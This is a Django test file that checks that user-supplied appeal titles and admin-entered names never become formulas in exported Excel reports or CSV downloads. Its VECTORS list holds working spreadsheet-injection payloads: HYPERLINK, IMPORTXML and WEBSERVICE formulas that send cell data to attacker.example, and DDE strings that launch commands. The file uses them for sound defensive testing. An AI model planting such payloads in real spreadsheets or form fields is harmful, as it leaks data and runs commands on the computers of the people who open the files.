"""Formula injection (issue 12, item 4): user text filed through the web form and the API never
becomes a formula in the Excel report or in a CSV download, and still reads as typed."""

from __future__ import annotations

import csv
import io
import re
import uuid
import zipfile
from datetime import timedelta

import pytest
from django.utils import timezone
from openpyxl import load_workbook
from rest_framework.test import APIClient

from analytics import rollups
from analytics.models import AppealFact, Report
from analytics.spreadsheet_text import csv_value, is_formula_like
from appeals.api.models import ApiClient
from appeals.models import Appeal
from config.celery import app as celery_app
from problems.models import ProblemTicket
from routing.models import Bureau, Region
from tests import factories
from tests.appeals.portal.conftest import form_data

pytestmark = pytest.mark.django_db

# The classic spreadsheet-injection vectors: formulas, DDE, and the prefixes Excel and LibreOffice
# also parse as the start of a formula (+ - @, tab, CR, LF, leading spaces).
VECTORS = [
    '=HYPERLINK("http://attacker.example/?leak="&A2,"点击查看附件")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-1+1 申请贴息",
    "+1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1 全角空格",
    '=IMPORTXML(CONCAT("http://attacker.example/?v=",A2),"//a")',
    '=WEBSERVICE("http://attacker.example/")',
]


@pytest.mark.parametrize("text", VECTORS)
def test_every_vector_is_formula_like_and_csv_quotes_it(text):
    assert is_formula_like(text)
    assert csv_value(text) == "'" + text


@pytest.mark.parametrize("text", ["招工难", "A=1", "1+1", "贷款-续贷", "", "—", "2026-11-02"])
def test_ordinary_text_is_left_alone(text):
    assert not is_formula_like(text) or text == ""
    assert csv_value(text) == text


@pytest.mark.parametrize("number", ["+3", "-2", "-2.5", "+12.0", "-0.5%", 7, 1.5, None])
def test_plain_numbers_stay_numbers_in_csv(number):
    assert csv_value(number) == number


@pytest.fixture
def filed(client, hrss, finance, dispatch_centre, settings):
    """Every vector filed as an appeal title, half through the web form and half through the API."""
    settings.PORTAL_RATE_LIMITS = {}
    factories.BureauFactory(region=hrss.region, bureau_type=factories.bureau_type("tax"))
    celery_app.conf.task_always_eager = True
    _client, key = ApiClient.create_with_key(name="小程序", channel=ApiClient.Channel.API)
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"ApiKey {key}")
    for index, title in enumerate(VECTORS):
        if index % 2 == 0:
            data = form_data(hrss.region, title=title, idempotency_token=str(uuid.uuid4()))
            response = client.post("/", data)
            assert response.status_code == 302, response.content.decode()[:500]
        else:
            response = api.post(
                "/api/appeals/",
                {
                    "enterprise_name": "佛山市测试电子有限公司",
                    "credit_code": factories.credit_code(),
                    "region": hrss.region.code,
                    "industry": "I",
                    "enterprise_size": "micro",
                    "contact_name": "陈工",
                    "contact_phone": "13900139000",
                    "category": "employment",
                    "title": title,
                    "description": "测试描述。",
                },
                format="json",
            )
            assert response.status_code == 201, response.content
    # Names entered by administrators are user text too.
    category = factories.category("employment")
    category.name = '=HYPERLINK("http://attacker.example/","类别")'
    category.save()
    Bureau.objects.filter(pk=hrss.pk).update(name="+cmd|' /C calc'!A0")
    Region.objects.filter(pk=hrss.region.pk).update(name="@SUM(1)")
    rollups.update_rollups()
    appeals = Appeal.objects.all()
    assert appeals.count() == len(VECTORS)
    # Flag them all so the "overdue and re-opened" sheet lists them too.
    AppealFact.objects.filter(appeal_id__in=appeals.values("pk")).update(overdue=True)
    # And as problem tickets, with a supervisor's note that is a formula as well.
    for appeal in appeals:
        ProblemTicket.objects.create(appeal=appeal, region=appeal.region, reopened=True, owner_note="=1+1")
    yield appeals
    celery_app.conf.task_always_eager = False


def test_no_user_text_becomes_a_formula_in_the_report(client, filed, django_capture_on_commit_callbacks):
    today = timezone.localdate()
    client.force_login(factories.staff_user("manager", None))
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/analytics/reports/",
            {"start": f"{today - timedelta(days=1):%Y-%m-%d}", "end": f"{today:%Y-%m-%d}", "language": "zh-hans"},
        )
    assert response.status_code == 302
    report = Report.objects.get()
    assert report.status == Report.Status.DONE, report.error
    download = client.get(f"/analytics/reports/{report.pk}/download/")
    content = b"".join(download.streaming_content)

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name)]
        assert len(sheets) == 10
        for name in sheets:
            xml = archive.read(name).decode()
            assert not re.search(r"<f[\s>/]", xml), f"{name} holds a formula"
    book = load_workbook(io.BytesIO(content))
    titles = set(Appeal.objects.values_list("title", flat=True))
    for sheet, column, first in (("诉求明细", 17, 2), ("超期与重办", 1, 2), ("问题工单", 1, 7)):
        cells = [row[column] for row in book[sheet].iter_rows(min_row=first)]
        assert {c.value for c in cells} == titles, sheet
        for cell in cells:
            # Text, exactly as typed, and marked so that editing it in Excel keeps it text.
            assert cell.data_type == "s" and cell.quotePrefix, (sheet, cell.value)
    assert book["诉求明细"].cell(row=2, column=3).value.startswith("=HYPERLINK")
    assert book["诉求明细"].cell(row=2, column=3).quotePrefix
    assert book["问题工单"].cell(row=7, column=10).value == "=1+1"
    assert book["问题工单"].cell(row=7, column=10).quotePrefix
    # The stored titles still carry the dangerous prefixes the vectors start with.
    assert sum(1 for t in titles if t[:1] in "=+-@") >= 12


def test_no_user_text_starts_a_formula_in_any_csv(client, filed):
    today = timezone.localdate()
    client.force_login(factories.staff_user("manager", None))
    period = {"start": f"{today - timedelta(days=13):%Y-%m-%d}", "end": f"{today:%Y-%m-%d}"}
    seen = set()
    for name in (
        "kpis",
        "ranking",
        "trend",
        "heatmap",
        "rising",
        "scorecard",
        "problems",
        "hot-topics",
        "league-bureaus",
    ):
        response = client.get(f"/analytics/csv/{name}/", period)
        assert response.status_code == 200, name
        text = response.content.decode("utf-8")[1:]
        for row in csv.reader(io.StringIO(text)):
            for value in row:
                if is_formula_like(value):
                    assert re.fullmatch(r"[+-]?\d+(\.\d*)?%?", value), (name, value)
                seen.add(value)
    assert '\'=HYPERLINK("http://attacker.example/","类别")' in seen
    assert "'+cmd|' /C calc'!A0" in seen
    assert "'@SUM(1)" in seen
